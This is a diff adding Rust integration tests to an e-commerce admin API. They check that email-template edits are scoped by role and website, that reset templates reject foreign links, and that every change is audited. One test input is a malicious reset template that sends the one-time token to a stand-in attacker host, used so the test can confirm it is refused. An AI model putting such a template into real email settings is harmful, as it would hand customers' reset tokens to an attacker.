@@ -472,3 +472,178 @@ db_test!(
         );
     }
 );
+
+/// A staff user with a role of `resources` over `websites` (all when `None`); their token.
+async fn staff_with_role(
+    app: &TestApp,
+    email: &str,
+    resources: &[&str],
+    websites: Option<Vec<i64>>,
+) -> String {
+    let root = app.root_token().await;
+    let mut input = json!({"name": email, "resources": resources});
+    if let Some(ids) = websites {
+        input["website_ids"] = json!(ids);
+    }
+    let (_, role) = app
+        .admin(
+            Some(&root),
+            "mutation($i: CreateRoleInput!) { createRole(input: $i) { id } }",
+            json!({"i": input}),
+        )
+        .await;
+    let role_id = role["data"]["createRole"]["id"]
+        .as_i64()
+        .unwrap_or_else(|| panic!("{role}"));
+    app.create_staff(email, role_id as i32).await;
+    app.sign_in(email).await
+}
+
+db_test!(
+    template_changes_are_scoped_and_one_time_links_stay_where_the_store_put_them,
+    |app| {
+        let root = app.root_token().await;
+        let (_, eu_view) = app.create_website_with_store_view(&root, "eu").await;
+        let eu_store = app
+            .services
+            .stores
+            .view_by_code(&eu_view)
+            .await
+            .expect("eu view")
+            .id;
+        let save = "mutation($i: SaveEmailTemplateInput!) { saveEmailTemplate(input: $i) { code store_id } }";
+        let template = |code: &str, store_id: i64, body: &str| json!({"i": {"code": code, "store_id": store_id, "subject": "Hello", "body": body}});
+        const WELCOME: &str = "customer_create_account_email_template";
+        const RESET: &str = "customer_password_forgot_email_template";
+        let evil = "<a href=\"https://evil.example/?t={{ token }}\">Reset</a>";
+
+        // The email-template permission alone cannot touch an email with a one-time link.
+        let mail =
+            staff_with_role(app, "mail@example.com", &["Magento_Email::template"], None).await;
+        let (_, body) = app.admin(Some(&mail), save, template(RESET, 0, evil)).await;
+        assert_eq!(error_ext(&body, "code"), "FORBIDDEN", "{body}");
+        let (_, body) = app
+            .admin(Some(&mail), save, template(WELCOME, 0, "<p>Hi</p>"))
+            .await;
+        assert_eq!(body["data"]["saveEmailTemplate"]["code"], WELCOME, "{body}");
+        let (_, body) = app
+            .admin(
+                Some(&mail),
+                "mutation($c: String!) { deleteEmailTemplate(code: $c) { is_default } }",
+                json!({"c": RESET}),
+            )
+            .await;
+        assert_eq!(error_ext(&body, "code"), "FORBIDDEN", "{body}");
+
+        // A role of one website changes only that website's store views.
+        let base = staff_with_role(
+            app,
+            "base@example.com",
+            &["Magento_Email::template"],
+            Some(vec![1]),
+        )
+        .await;
+        let (_, body) = app
+            .admin(Some(&base), save, template(WELCOME, 0, "<p>Hi</p>"))
+            .await;
+        assert_eq!(
+            error_message(&body),
+            "Changing the templates of all store views needs a role that covers all websites."
+        );
+        let (_, body) = app
+            .admin(
+                Some(&base),
+                save,
+                template(WELCOME, eu_store.into(), "<p>Hi</p>"),
+            )
+            .await;
+        assert_eq!(error_ext(&body, "code"), "FORBIDDEN", "{body}");
+        let (_, body) = app
+            .admin(Some(&base), save, template(WELCOME, 1, "<p>Hi base</p>"))
+            .await;
+        assert_eq!(body["data"]["saveEmailTemplate"]["store_id"], 1, "{body}");
+
+        // With the permission for such emails, the link may stand only where it is the link.
+        let secrets = staff_with_role(
+            app,
+            "secrets@example.com",
+            &[
+                "Magento_Email::template",
+                "Clientele_Email::secret_templates",
+            ],
+            None,
+        )
+        .await;
+        for bad in [evil, "<img src=\"{{ link }}\">"] {
+            let (_, body) = app
+                .admin(Some(&secrets), save, template(RESET, 0, bad))
+                .await;
+            assert_eq!(error_ext(&body, "code"), "BAD_USER_INPUT", "{bad}: {body}");
+        }
+        let (_, body) = app
+            .admin(
+                Some(&secrets),
+                save,
+                template(
+                    RESET,
+                    0,
+                    "<p>Reset: <a href=\"{{ link }}\">{{ link }}</a></p>",
+                ),
+            )
+            .await;
+        assert_eq!(body["data"]["saveEmailTemplate"]["code"], RESET, "{body}");
+
+        // Every change is on record with who made it, newest first.
+        let (_, body) = app
+            .admin(
+                Some(&root),
+                "{ emailTemplateChanges { code store_id action changed_by } }",
+                json!({}),
+            )
+            .await;
+        let changes = body["data"]["emailTemplateChanges"]
+            .as_array()
+            .expect("changes");
+        let who: Vec<(String, i64)> = changes
+            .iter()
+            .map(|c| {
+                (
+                    c["code"].as_str().expect("code").to_owned(),
+                    c["store_id"].as_i64().expect("store"),
+                )
+            })
+            .collect();
+        assert_eq!(
+            who,
+            [
+                (RESET.to_owned(), 0),
+                (WELCOME.to_owned(), 1),
+                (WELCOME.to_owned(), 0)
+            ],
+            "{body}"
+        );
+        assert!(changes.iter().all(|c| c["action"] == "saved"));
+        assert!(
+            changes[0]["changed_by"]
+                .as_str()
+                .expect("by")
+                .starts_with("staff:"),
+            "{body}"
+        );
+        assert_ne!(changes[0]["changed_by"], changes[1]["changed_by"]);
+
+        // The reset email carries the link where the template put it, and nowhere else.
+        sign_up(app, "ann@example.com").await;
+        let (_, body) = call(
+            app,
+            None,
+            "mutation($e: String!) { requestPasswordResetEmail(email: $e) }",
+            json!({"e": "ann@example.com"}),
+        )
+        .await;
+        assert_eq!(body["data"]["requestPasswordResetEmail"], true, "{body}");
+        let sent = app.wait_for_mail("ann@example.com", "Reset: ").await;
+        let token = query_param(&sent, "token");
+        assert!(token.len() >= 43, "{sent}");
+    }
+);
